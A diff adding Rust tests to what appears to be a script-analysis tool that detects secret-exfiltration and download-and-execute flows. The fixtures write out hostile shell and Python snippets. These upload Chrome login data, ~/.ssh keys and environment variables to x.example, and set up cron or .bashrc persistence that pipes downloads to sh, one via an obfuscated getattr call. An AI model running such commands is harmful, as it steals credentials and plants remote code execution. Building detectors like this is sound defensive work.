@@ -660,3 +660,61 @@ fn corpus_report() {
         println!("== {name}: {scripts} scripts, {with_flow} with a flow");
     }
 }
+
+#[test]
+fn corpus_shapes() {
+    // A browser profile copied, zipped and uploaded.
+    flow(
+        Lang::Shell,
+        "P=\"$HOME/Library/Application Support/Google/Chrome/Default\"\ncp \"$P/Login Data\" /tmp/ld.db\nzip -q /tmp/b.zip /tmp/ld.db\ncurl -s -F file=@/tmp/b.zip https://x.example/u\n",
+        FlowKind::SecretToNetwork,
+    );
+    flow(
+        Lang::Shell,
+        "tar czf /tmp/k.tgz ~/.ssh\ncurl -s -F f=@/tmp/k.tgz https://x.example/u\n",
+        FlowKind::SecretToNetwork,
+    );
+    flow(
+        Lang::Python,
+        "import os, json, urllib.request\npayload = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://x.example', data=payload)\n",
+        FlowKind::SecretToNetwork,
+    );
+    // A cron job and a shell rc line run later what was downloaded now.
+    flow(
+        Lang::Shell,
+        "(crontab -l; echo \"*/10 * * * * curl -s https://x.example/u | sh\") | crontab -\n",
+        FlowKind::DownloadToExec,
+    );
+    flow(
+        Lang::Shell,
+        "curl -s https://x.example/t.sh -o ~/.cache/.t.sh\necho 'source ~/.cache/.t.sh' >> ~/.bashrc\n",
+        FlowKind::DownloadToExec,
+    );
+    // Methods of a class: harvested in one, sent in another.
+    flow(
+        Lang::Python,
+        "import os, requests\nclass H:\n    def harvest(self):\n        s = {}\n        for k, v in os.environ.items():\n            s[k] = v\n        return s\n    def send(self, s):\n        requests.post('https://x.example', json={'d': s})\nh = H()\nh.send(h.harvest())\n",
+        FlowKind::SecretToNetwork,
+    );
+    // getattr with a split name.
+    let a = run(
+        Lang::Python,
+        "import os\ngetattr(os, 'sys' + 'tem')('curl https://x.example/p | sh')\n",
+    );
+    assert!(has_flow(&a, FlowKind::DownloadToExec), "{:#?}", a.facts);
+    assert!(a.derived.iter().any(|d| d.text == "system"));
+}
+
+#[test]
+fn benign_corpus_shapes() {
+    // A download verified against a pinned checksum, then run.
+    no_flow(
+        Lang::Shell,
+        "curl -fsSL -o tool https://downloads.example.com/tool-1.2.3\necho \"0000  tool\" | sha256sum -c -\nchmod +x tool\n./tool --version\n",
+    );
+    // Posting to a webhook whose address is in the environment.
+    no_flow(
+        Lang::Shell,
+        "curl -X POST -H 'Content-type: application/json' --data @notes.json \"$SLACK_WEBHOOK_URL\"\n",
+    );
+}
